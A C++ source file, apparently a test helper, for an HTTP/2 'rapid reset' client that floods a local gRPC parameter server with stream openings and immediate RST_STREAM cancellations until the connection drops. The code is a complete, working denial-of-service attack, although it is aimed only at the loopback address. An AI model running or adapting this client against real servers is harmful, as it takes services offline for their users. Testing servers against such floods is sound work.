// An HTTP/2 client that opens streams and resets them at once, in a loop
// (rapid reset), on one connection to 127.0.0.1:PORT, until the server ends
// it or it is killed: a process of its own, as an attacker is, so that it
// keeps the connection as full as the server reads it.
//   rapid_reset_client PORT   (prints "attacking" once 20 000 streams are read)
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <thread>

namespace {

void AppendFrame(std::string* out, int type, int flags, uint32_t stream, const std::string& body) {
  const size_t n = body.size();
  const char header[9] = {static_cast<char>(n >> 16), static_cast<char>(n >> 8),
                          static_cast<char>(n),       static_cast<char>(type),
                          static_cast<char>(flags),   static_cast<char>(stream >> 24),
                          static_cast<char>(stream >> 16), static_cast<char>(stream >> 8),
                          static_cast<char>(stream)};
  out->append(header, 9);
  out->append(body);
}

// An HPACK literal header field without indexing, no Huffman (RFC 7541 6.2.2).
std::string Literal(const std::string& name, const std::string& value) {
  return std::string(1, '\0') + static_cast<char>(name.size()) + name +
         static_cast<char>(value.size()) + value;
}

// Opens Stats calls on one connection, resetting each at once, as fast as
// the server reads them, until the server closes the connection. Prints a
// line once the server has read 20 000.
void RapidReset(int port) {
  const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<uint16_t>(port));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof(address)) != 0) {
    close(fd);
    return;
  }
  // What the server sends (its SETTINGS, its resets) is read and dropped,
  // so that it never waits on this client.
  std::thread drain([fd] {
    char buffer[1 << 16];
    while (read(fd, buffer, sizeof(buffer)) > 0) {
    }
  });
  std::string out = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
  AppendFrame(&out, /*SETTINGS=*/4, 0, 0, "");
  const std::string headers =
      Literal(":method", "POST") + Literal(":scheme", "http") +
      Literal(":path", "/pst.ParameterServer/Stats") + Literal(":authority", "127.0.0.1") +
      Literal("content-type", "application/grpc") + Literal("te", "trailers");
  const std::string cancel("\0\0\0\x8", 4);
  uint32_t stream = 1;
  int64_t sent = 0;
  bool open = true;
  while (open) {
    for (int i = 0; i < 1000; ++i, stream += 2, ++sent) {
      AppendFrame(&out, /*HEADERS=*/1, /*END_HEADERS=*/4, stream, headers);
      AppendFrame(&out, /*RST_STREAM=*/3, 0, stream, cancel);
    }
    for (size_t done = 0; open && done < out.size();) {
      const ssize_t n = send(fd, out.data() + done, out.size() - done, MSG_NOSIGNAL);
      open = n > 0;
      if (open) done += static_cast<size_t>(n);
    }
    out.clear();
    if (sent == 20'000) {
      std::puts("attacking");
      std::fflush(stdout);
    }
  }
  shutdown(fd, SHUT_RDWR);
  drain.join();
  close(fd);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 2) {
    std::fprintf(stderr, "usage: rapid_reset_client PORT\n");
    return 2;
  }
  RapidReset(std::atoi(argv[1]));
  return 0;
}
